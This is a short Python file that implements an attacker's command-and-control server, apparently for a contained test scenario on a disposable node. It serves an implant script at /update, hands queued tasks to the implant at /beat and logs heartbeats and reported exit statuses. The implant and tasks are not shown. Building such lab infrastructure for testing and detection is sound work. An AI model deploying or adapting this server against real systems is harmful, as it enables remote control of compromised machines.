#!/usr/bin/python3
"""The attacker's command-and-control server, for use on the disposable node only.

    c2.py DIR INTERVAL

Listens on 203.0.113.66:8080 (an address for documentation, in a network namespace of the scenario's own). Serves DIR/implant.py
as /update; answers /beat with the content of DIR/task, once. What happened goes to DIR/c2.log, a line each: what, boottime in
nanoseconds, and the exit status of the task that the implant reports as done, if any.
"""

import http.server
import pathlib
import sys
import time
import urllib.parse

folder, interval = pathlib.Path(sys.argv[1]), sys.argv[2]


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        url = urllib.parse.urlsplit(self.path)
        if url.path == "/update":
            self.log("served")
            self.answer((folder / "implant.py").read_text().replace("@INTERVAL@", interval))
        elif url.path == "/beat":
            done = urllib.parse.parse_qs(url.query).get("done", [])
            self.log("beat", *done)
            try:
                task = (folder / "task").rename(folder / "task.sent").read_text()
            except FileNotFoundError:
                task = ""
            self.answer(task)
        else:
            self.send_error(404)

    def answer(self, text: str) -> None:
        body = text.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log(self, *words: str) -> None:
        with open(folder / "c2.log", "a") as log:
            print(words[0], time.clock_gettime_ns(time.CLOCK_BOOTTIME), *words[1:], file=log)

    def log_message(self, *_: object) -> None:
        pass


http.server.ThreadingHTTPServer(("203.0.113.66", 8080), Handler).serve_forever()
